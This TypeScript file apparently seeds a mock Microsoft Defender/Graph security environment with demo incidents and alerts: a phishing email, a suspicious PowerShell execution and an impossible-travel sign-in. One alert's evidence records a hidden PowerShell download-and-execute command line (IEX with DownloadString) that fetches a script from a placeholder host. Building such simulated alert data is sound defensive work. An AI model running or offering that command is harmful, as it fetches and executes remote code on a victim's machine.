import { minutesAgo, preciseNow } from './clock.js';
import { DEMO_ALERTS, DEMO_INCIDENTS, DEMO_MACHINES, DEMO_USERS } from './demo-constants.js';
import type { CloudState } from './state.js';

const adele = DEMO_USERS.adele;
const adeleDesktop = DEMO_MACHINES.adeleDesktop;

const adeleAccount = {
  accountName: 'adele.vance',
  azureAdUserId: adele.id,
  displayName: 'Adele Vance',
  domainName: 'contoso.com',
  userPrincipalName: adele.upn,
  userSid: 'S-1-5-21-1111111111-2222222222-3333333333-1104',
};

/** The properties every alertEvidence carries. */
const evidence = (type: string, roles: string[], fields: Record<string, unknown>) => ({
  '@odata.type': `#microsoft.graph.security.${type}`,
  createdDateTime: minutesAgo(20),
  verdict: 'suspicious',
  remediationStatus: 'none',
  remediationStatusDetails: null,
  roles,
  detailedRoles: [],
  tags: [],
  ...fields,
});

const file = (fileName: string, filePath: string, fileSize: number) => ({
  sha1: null,
  sha256: null,
  fileName,
  filePath,
  fileSize,
  filePublisher: 'Microsoft Corporation',
  signer: null,
  issuer: null,
});

const sender = { emailAddress: 'billing@evil.example', displayName: 'Billing', domainName: 'evil.example' };
const phishingUrl = 'https://company-login.example/x';

/** Two incidents: Adele phished then PowerShell on her desktop (Office 365 + Endpoint), Megan's impossible travel. */
export function seedDemoSecurity(state: CloudState, tenantId: string): void {
  const created = preciseNow();
  state.addIncident({
    tenantId,
    id: DEMO_INCIDENTS.adeleCompromise,
    displayName: 'Multi-stage incident involving Initial access & Execution on one endpoint',
    severity: 'high',
    createdDateTime: created,
    lastUpdateDateTime: created,
    description: 'Adele Vance clicked a phishing link and a suspicious PowerShell command ran on her desktop.',
  });
  state.addIncident({
    tenantId,
    id: DEMO_INCIDENTS.meganSignIn,
    displayName: 'Impossible travel activity involving one user',
    severity: 'medium',
    createdDateTime: created,
    lastUpdateDateTime: created,
  });

  const userEvidence = evidence('userEvidence', ['compromised'], { userAccount: adeleAccount });
  state.addAlert({
    tenantId,
    id: DEMO_ALERTS.phishing,
    incidentId: DEMO_INCIDENTS.adeleCompromise,
    title: 'Email messages containing malicious URL removed after delivery',
    description: 'Emails with a malicious URL were delivered and later removed by zero-hour auto purge.',
    severity: 'medium',
    category: 'InitialAccess',
    serviceSource: 'microsoftDefenderForOffice365',
    detectionSource: 'microsoftDefenderForOffice365',
    productName: 'Microsoft Defender for Office 365',
    mitreTechniques: ['T1566.002'],
    firstActivityDateTime: minutesAgo(35),
    lastActivityDateTime: minutesAgo(33),
    createdDateTime: preciseNow(),
    lastUpdateDateTime: preciseNow(),
    evidence: [
      userEvidence,
      evidence('mailboxEvidence', ['destination'], {
        verdict: 'unknown',
        displayName: 'Adele Vance',
        primaryAddress: adele.upn,
        upn: adele.upn,
        userAccount: { ...adeleAccount, userSid: null },
      }),
      evidence('analyzedMessageEvidence', [], {
        verdict: 'malicious',
        remediationStatus: 'remediated',
        networkMessageId: '3f2b5e4e-6a3c-4a9f-9c1e-08dc0a1b2c3d',
        internetMessageId: '<CAFx1234@mail.evil.example>',
        subject: 'Invoice overdue',
        language: 'en',
        senderIp: '203.0.113.5',
        recipientEmailAddress: adele.upn,
        antiSpamDirection: 'inbound',
        deliveryAction: 'delivered',
        deliveryLocation: 'inbox',
        urn: 'urn:MailEntity:0123456789abcdef0123456789abcdef',
        threats: ['Phish'],
        threatDetectionMethods: ['URL detonation reputation'],
        urls: [phishingUrl],
        urlCount: 1,
        attachmentsCount: 0,
        receivedDateTime: minutesAgo(35),
        p1Sender: sender,
        p2Sender: sender,
      }),
      evidence('urlEvidence', [], { verdict: 'malicious', url: phishingUrl }),
    ],
  });

  state.addAlert({
    tenantId,
    id: DEMO_ALERTS.powershell,
    incidentId: DEMO_INCIDENTS.adeleCompromise,
    title: 'Suspicious PowerShell command line',
    description:
      'A suspicious PowerShell activity was observed on the machine. It downloaded and ran a script from the internet.',
    severity: 'high',
    category: 'Execution',
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'microsoftDefenderForEndpoint',
    mitreTechniques: ['T1059.001', 'T1105'],
    firstActivityDateTime: minutesAgo(30),
    lastActivityDateTime: minutesAgo(28),
    createdDateTime: preciseNow(),
    lastUpdateDateTime: preciseNow(),
    evidence: [
      evidence('deviceEvidence', ['compromised'], {
        detailedRoles: ['Main device'],
        firstSeenDateTime: minutesAgo(200 * 1440),
        mdeDeviceId: adeleDesktop.id,
        azureAdDeviceId: null,
        deviceDnsName: adeleDesktop.dnsName,
        osPlatform: 'Windows11',
        osBuild: 22631,
        version: '23H2',
        healthStatus: 'active',
        riskScore: 'high',
        rbacGroupId: 0,
        rbacGroupName: 'UnassignedGroup',
        onboardingStatus: 'onboarded',
        defenderAvStatus: 'updated',
        ipInterfaces: ['10.1.4.27'],
        loggedOnUsers: [{ accountName: 'adele.vance', domainName: 'CONTOSO' }],
        vmMetadata: null,
      }),
      userEvidence,
      evidence('processEvidence', [], {
        processId: 7312,
        parentProcessId: 5120,
        processCommandLine: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://company-login.example/a.ps1')"`,
        processCreationDateTime: minutesAgo(29),
        parentProcessCreationDateTime: minutesAgo(31),
        detectionStatus: 'detected',
        mdeDeviceId: adeleDesktop.id,
        imageFile: file('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 450560),
        parentProcessImageFile: file('outlook.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16', 41843072),
        userAccount: adeleAccount,
      }),
    ],
  });

  state.addAlert({
    tenantId,
    id: DEMO_ALERTS.impossibleTravel,
    incidentId: DEMO_INCIDENTS.meganSignIn,
    title: 'Impossible travel activity',
    description: 'Sign-ins from two distant locations within a time shorter than the travel time between them.',
    severity: 'medium',
    category: 'InitialAccess',
    serviceSource: 'azureAdIdentityProtection',
    detectionSource: 'azureAdIdentityProtection',
    productName: 'Microsoft Entra ID Protection',
    createdDateTime: preciseNow(),
    lastUpdateDateTime: preciseNow(),
    evidence: [
      evidence('userEvidence', ['compromised'], {
        userAccount: {
          accountName: 'megan.bowen',
          azureAdUserId: DEMO_USERS.megan.id,
          displayName: 'Megan Bowen',
          domainName: 'contoso.com',
          userPrincipalName: DEMO_USERS.megan.upn,
          userSid: null,
        },
      }),
      evidence('ipEvidence', [], { ipAddress: '198.51.100.77', countryLetterCode: 'RO' }),
    ],
  });
}
